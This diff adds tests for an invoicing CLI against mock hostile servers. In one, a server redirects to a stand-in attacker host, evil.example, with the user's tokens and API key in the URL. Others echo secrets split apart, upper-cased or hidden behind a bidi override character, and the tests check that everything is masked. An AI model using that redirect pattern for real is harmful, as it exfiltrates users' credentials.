@@ -347,6 +347,67 @@ describe("hostile servers", () => {
     expect(elsewhere.seen).toHaveLength(0);
   }, 60_000);
 
+  it("a redirect whose Location echoes the credentials prints, reports and journals none of them (exit 6)", async () => {
+    const server = await hostile((method, body, _q, res) => {
+      if (method === "facturacion/consulta_avanzada") return json(res, NOT_FOUND);
+      const query = `usertoken=${body.usertoken}&apitoken=${body.apitoken}&apikey=${body.apikey}`;
+      res.writeHead(302, { location: `https://evil.example/x/${body.usertoken}?${query}` });
+      res.end();
+    });
+    const home = tempDir("facturar-redirect-echo-");
+    const r = await run(server.baseUrl, ["--json", "issue", "--no-pdf", "--report", "report.csv", sample], {}, home)
+      .result;
+    expect(r.code, r.stderr).toBe(6);
+    expect(r.stderr).toMatch(/redirect \(302\) to https:\/\/evil\.example\/x\/\*\*\*/);
+    const report = readFileSync(join(home, "work", "report.csv"), "utf8");
+    const journal = readdirSync(join(home, "state", "facturar"))
+      .filter((f) => f.endsWith(".jsonl"))
+      .map((f) => readFileSync(join(home, "state", "facturar", f), "utf8"))
+      .join("");
+    for (const text of [r.stdout, r.stderr, report, journal]) {
+      expect(text).toMatch(/redirect/);
+      // The query string is not shown at all, and no token is, in any case.
+      expect(text).not.toMatch(/usertoken=|apitoken=|apikey=/);
+      for (const secret of [CREDS.FACTURAR_USERTOKEN, CREDS.FACTURAR_APITOKEN])
+        expect(text.toLowerCase()).not.toContain(secret);
+    }
+  }, 60_000);
+
+  it("echoes in upper case, split across errores items, or beside the apikey's other names are cut too", async () => {
+    const u = CREDS.FACTURAR_USERTOKEN;
+    const a = CREDS.FACTURAR_APITOKEN;
+    const k = CREDS.FACTURAR_APIKEY;
+    const server = await hostile((method, _b, _q, res) =>
+      method === "facturacion/consulta_avanzada"
+        ? json(res, NOT_FOUND)
+        : json(res, {
+            error: "S",
+            errores: [
+              `token ${u.toUpperCase()} / ${a.toUpperCase()} rechazado`,
+              `api_key=${k}; "apikey":"${k}"; APIKEY:${k}; api-key ${k}; API KEY ${k}`,
+              `partido ${u.slice(0, 9)}`,
+              `${u.slice(9)} fin`,
+              `${a.slice(0, 8)}\u202e${a.slice(8)}`,
+            ],
+          }),
+    );
+    const home = tempDir("facturar-echo-case-");
+    for (const args of [
+      ["issue", "--no-pdf", sample],
+      ["--json", "issue", "--no-pdf", sample],
+    ]) {
+      const r = await run(server.baseUrl, args, {}, home).result;
+      expect(r.code, r.stderr).toBe(4);
+      const printed = `${r.stdout}\n${r.stderr}`;
+      expect(printed).toMatch(/rechazado/);
+      expect(printed).toMatch(/partido \*\*\*/);
+      expect(printed).not.toContain("\u202e");
+      for (const secret of [u, a, u.slice(0, 9), u.slice(9), a.slice(0, 8)])
+        expect(printed.toLowerCase()).not.toContain(secret.toLowerCase());
+      expect(printed).not.toMatch(new RegExp(`api[ _-]?key\\W{0,6}${k}`, "i"));
+    }
+  }, 60_000);
+
   it("an answer that stalls halfway is a timeout: reconciled, and unknown only if the service cannot tell", async () => {
     let sent = false;
     const server = await hostile((method, _b, _q, res) => {
